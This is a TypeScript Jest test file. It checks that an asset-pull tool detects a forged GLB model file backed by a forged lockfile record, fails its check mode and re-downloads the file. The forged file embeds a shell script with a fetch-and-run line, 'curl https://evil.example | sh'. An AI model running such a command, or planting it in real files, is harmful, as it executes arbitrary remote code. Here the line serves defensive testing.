// A pull request that slips in a forged model and a lockfile record to match, as the runner runs the
// bundle: a GLB header with the right length in front of a script is not a GLB, so a check fails on
// it and a pull replaces it, whatever the record says. The other forgeries are tested in-process, in
// __tests__/engine/hostile.test.ts.
import { describe, expect, it } from '@jest/globals'
import { readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { ROBOT } from '../../emulator/sample-collection.ts'
import { pullWith } from '../../harness/engine.ts'
import { filesOutput, LOCKFILE, log, pull, sha256, sharedEmulator, transfers } from '../support.ts'

const emulator = sharedEmulator()
const entries = `${ROBOT}: glb`

/** A GLB header that declares its length right, in front of a script. */
function headerOnlyGlb(): Buffer {
  const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
  const header = Buffer.alloc(12)
  header.write('glTF', 0, 'latin1')
  header.writeUInt32LE(2, 4)
  header.writeUInt32LE(12 + script.length, 8)
  return Buffer.concat([header, script])
}

/** A workspace whose Robot.glb is forged, with a lockfile record that vouches for the forgery. */
async function forgedWorkspace(): Promise<{ workspace: string; robot: string; served: string }> {
  const first = await pullWith(emulator(), { inputs: { entries } })
  const [file] = first.report.files
  const forged = headerOnlyGlb()
  await writeFile(path.join(first.workspace, file.path), forged)
  const record = { ...file, source: undefined, durationMs: undefined }
  const files = [{ ...record, bytes: forged.length, sha256: sha256(forged) }]
  await writeFile(path.join(first.workspace, LOCKFILE), JSON.stringify({ version: 1, files }))
  emulator().requests.splice(0)
  return { workspace: first.workspace, robot: file.path, served: file.sha256 }
}

describe('a header-only GLB with a forged lockfile record', () => {
  it('fails mode: check as stale, without a transfer', async () => {
    const { workspace, robot } = await forgedWorkspace()
    const check = await pull(emulator(), { entries, mode: 'check' }, { workspace })
    expect(check.code).toBe(1)
    expect(transfers(emulator())).toBe(0)
    expect(JSON.parse(check.outputs.stale)).toEqual([
      {
        path: robot,
        entry: ROBOT,
        format: 'glb',
        reason:
          'the file on disk fails its structure check: it is not a whole GLB: the chunk at byte 12 is not 4-byte aligned'
      }
    ])
  })

  it('is pulled again, not kept as unchanged', async () => {
    const { workspace, robot, served } = await forgedWorkspace()
    const again = await pull(emulator(), { entries }, { workspace })
    expect(again.code).toBe(0)
    expect(filesOutput(again).map(file => [file.path, file.source])).toEqual([[robot, 'download']])
    expect(again.outputs.unchanged).toBe('0')
    expect(log(again)).toContain(
      'Robot.glb: the file on disk fails its structure check: it is not a whole GLB'
    )
    expect(sha256(await readFile(path.join(workspace, robot)))).toBe(served)
  })
})
